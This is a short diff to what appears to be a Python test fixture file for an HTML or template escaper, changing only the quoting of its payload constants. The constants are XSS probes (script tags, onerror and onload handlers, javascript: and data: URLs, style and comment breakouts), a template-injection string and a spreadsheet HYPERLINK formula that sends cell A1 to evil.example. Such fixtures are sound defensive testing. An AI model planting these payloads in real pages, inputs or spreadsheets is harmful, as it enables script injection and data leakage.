@@ -17,14 +17,14 @@ import yaml
 
 PWNED = "pwned"
 SCRIPT = "<script>document.title='pwned'</script>"
-ATTRIBUTE = "\"><img src=x onerror=\"document.title='pwned'\">"
+ATTRIBUTE = '"><img src=x onerror="document.title=\'pwned\'">'
 SINGLE_QUOTED = "'><svg onload=document.title='pwned'>"
 JAVASCRIPT_URL = "javascript:document.title='pwned'"
 DATA_URL = "data:text/html,<script>document.title='pwned'</script>"
 STYLE_BREAK = "</style><script>document.title='pwned'</script>"
 COMMENT_BREAK = "--><script>document.title='pwned'</script><!--"
 TEMPLATE = "{{ 7 * 7 }}{% raw %}"
-FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 #: a real web URL with quotes in it: a link, but its attribute must not break
 QUOTED_HTTP_URL = "https://example.org/a\"><script>document.title='pwned'</script>"
 
